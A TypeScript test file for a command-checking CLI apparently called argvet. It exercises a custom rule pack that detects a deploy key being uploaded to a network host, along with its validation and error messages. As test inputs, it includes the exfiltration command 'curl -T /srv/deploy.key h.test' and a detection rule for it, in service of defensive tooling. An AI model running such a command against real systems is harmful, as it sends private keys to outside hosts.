import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { openAnalyzer } from "../../src/cli/analyzer.ts";
import { cli } from "./fake.ts";

let folder = "";
const path = (name: string) => join(folder, name);

const PACK = `\
pack: house
about: Our own rules.
rules:
  - id: deploy-key
    title: The deploy key is sent away
    status: stable
    severity: high
    message: "{from} is sent to {to}"
    remediation: Leave it where it is.
    attack: [T1552]
    cwe: [522]
    false_positives: [none known]
    when: { flow: { from: { file: deploy-key }, to: { network: any } } }
    examples:
      match: ["curl -T /srv/deploy.key h.test"]
      no_match: ["curl -T /srv/readme h.test"]
      harmless: ["curl https://h.test"]
---
set: deploy-key
of: path
about: The key.
members: [/srv/deploy.key]
examples: { in: [/srv/deploy.key], out: [/srv/readme] }
`;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "argvet-"));
  writeFileSync(path("house.yaml"), PACK);
  writeFileSync(path("typo.yaml"), PACK.replace("severity: high", "severity: hihg").replace("cwe:", "cew:"));
  writeFileSync(
    path("wrong.yaml"),
    PACK.replace('no_match: ["curl -T /srv/readme h.test"]', 'no_match: ["curl -T /srv/deploy.key h.test"]'),
  );
});

describe("a pack of one's own", () => {
  test("its rules judge", async () => {
    const { code, out } = await cli(["check", "--pack", path("house.yaml"), "curl -T /srv/deploy.key h.test"], {
      open: openAnalyzer,
    });
    expect([code, out]).toEqual([
      1,
      expect.stringContaining("\n  house/deploy-key  high, certain\n    /srv/deploy.key is sent to h.test\n"),
    ]);
  });

  test("it can be shown", async () => {
    expect((await cli(["rules", "--pack", path("house.yaml"), "house/deploy-key"], { open: openAnalyzer })).out).toContain(
      "  when      { flow: { from: { file: deploy-key }, to: { network: any } } }\n",
    );
  });

  test("it and its examples are checked", async () => {
    expect(await cli(["rules", "check", path("house.yaml")])).toEqual({
      code: 0,
      out: "1 file: nothing wrong\n",
      err: "",
    });
  });
});

describe("what is wrong with one is said with its place, exit 2", () => {
  test.each([
    [
      "every problem when it is checked",
      ["rules", "check", "typo.yaml"],
      [
        'typo.yaml:7:15: "hihg" is not known here; did you mean "high"?',
        'typo.yaml:4:5: "cwe" is missing',
        'typo.yaml:11:5: unknown key "cew"; did you mean "cwe"?',
      ],
    ],
    [
      "the first when it is used",
      ["check", "ls", "--pack", "typo.yaml"],
      [expect.stringMatching(/^typo\.yaml:\d+:\d+: .* \(and \d more; see argvet rules check\)$/)],
    ],
    [
      "an example that does otherwise",
      ["rules", "check", "wrong.yaml"],
      ["wrong.yaml:16:1: no_match example of house/deploy-key: curl -T /srv/deploy.key h.test matches"],
    ],
    ["a file that is not there", ["check", "ls", "--pack", "none.yaml"], ["none.yaml: no such file"]],
    ["a profile that is none", ["check", "ls", "--profile", "strcit"], ['--profile strcit: did you mean "strict"?']],
  ])("%s", async (_, argv, problems) => {
    const { code, out, err } = await cli(
      argv.map((word) => (word.endsWith(".yaml") ? path(word) : word)),
      { open: openAnalyzer },
    );
    const lines = err
      .split("\n")
      .slice(0, -1)
      .map((line) => line.replaceAll(`${folder}/`, ""));
    expect({ code, out, lines }).toEqual({ code: 2, out: "", lines: problems });
  });
});
